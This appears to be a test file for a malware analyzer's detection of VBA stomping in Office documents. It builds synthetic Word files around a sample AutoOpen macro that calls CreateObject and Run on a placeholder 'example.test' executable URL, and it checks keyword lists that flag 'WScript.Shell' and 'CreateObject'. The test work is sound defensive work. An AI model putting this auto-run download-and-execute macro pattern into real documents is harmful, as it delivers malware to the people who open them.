import { describe, expect, it } from 'vitest'
import { compiledModule, instruction, nameTable } from '../../ole/test/buildCompiled.js'
import { buildCompoundFile, compressVba, dirStream } from '../../ole/test/buildCompoundFile.js'
import { runStatic } from './runStatic.js'

const names = nameTable(0x106, ['VBA', 'AutoOpen', 'CreateObject', 'Run', '_B_var_Wide', 'MsgBox'])
const [autoOpen, createObject, run, wide, msgBox] = [0x108, 0x109, 0x10a, 0x10b, 0x10c]
const attributes = 'Attribute VB_Name = "Module1"\r\nAttribute VB_Description = "x"\r\n'
const compiled = compiledModule([
  [instruction.use(autoOpen)],
  [
    instruction.text('say "WScript.Shell"'),
    instruction.text('http://example.test/a.exe'),
    ...[createObject, run, wide].map(instruction.call),
  ],
  [instruction.end()],
])
const original = `${attributes}Sub AutoOpen()\r\n CreateObject("say ""WScript.Shell""").Run "http://example.test/a.exe", wide\r\nEnd Sub\r\n`

async function officeOf(source: Uint8Array, cache: Uint8Array = compiled) {
  const binary = buildCompoundFile({
    WordDocument: new Uint8Array(5000),
    'Macros/VBA/dir': dirStream('Project', [{ name: 'Module1', offset: cache.length }]),
    'Macros/VBA/_VBA_PROJECT': names,
    'Macros/VBA/Module1': Buffer.concat([cache, source]),
  })
  const { fields } = await runStatic({ binary }, { typer: null })
  return fields?.office
}

describe('compiled macros', () => {
  it('that fit their source are no finding', async () => {
    const office = await officeOf(compressVba(original))
    expect(office?.macros[0]).toMatchObject({ pcode_size: compiled.length })
    expect(office?.macros[0]?.stomping).toBeUndefined()
    expect(office?.suspicious.map(({ keyword }) => keyword)).not.toContain('VBA stomping')
  })

  it('whose source was taken away show what they have, and its keywords and addresses', async () => {
    for (const source of [compressVba(attributes), new Uint8Array(200)]) {
      const office = await officeOf(source)
      expect(office?.macros[0]?.stomping).toEqual({
        reason: 'no source',
        lines: 3,
        texts: ['say "WScript.Shell"', 'http://example.test/a.exe'],
        names: ['AutoOpen', 'CreateObject', 'Run', 'Wide'],
      })
      expect(office?.autoexec.map(({ keyword }) => keyword)).toEqual(['AutoOpen'])
      const suspicious = office?.suspicious.map(({ keyword }) => keyword)
      expect(suspicious).toEqual(expect.arrayContaining(['WScript.Shell', 'CreateObject', 'VBA stomping']))
      expect(office?.urls).toEqual(['http://example.test/a.exe'])
    }
  })

  it('whose source was replaced are found by texts, or by most of their names', async () => {
    const fake = compressVba(`${attributes}Sub AutoOpen()\r\n MsgBox "nothing"\r\nEnd Sub\r\n`)
    const byTexts = await officeOf(fake)
    expect(byTexts?.macros[0]?.stomping).toMatchObject({
      reason: 'other source',
      names: ['CreateObject', 'Run', 'Wide'],
    })
    const byNames = await officeOf(fake, compiledModule([[autoOpen, createObject, run, wide].map(instruction.use)]))
    expect(byNames?.macros[0]?.stomping).toMatchObject({ reason: 'other source', texts: [] })
    const few = await officeOf(fake, compiledModule([[autoOpen, msgBox, run].map(instruction.use)]))
    expect(few?.macros[0]?.stomping).toBeUndefined()
  })

  it('with a damaged source say so, and prove nothing', async () => {
    const broken = compressVba(original).subarray(0, 90)
    const office = await officeOf(broken)
    expect(office?.macros[0]?.stomping).toMatchObject({ reason: 'damaged source' })
    expect(office?.suspicious.map(({ keyword }) => keyword)).not.toContain('VBA stomping')
  })
})
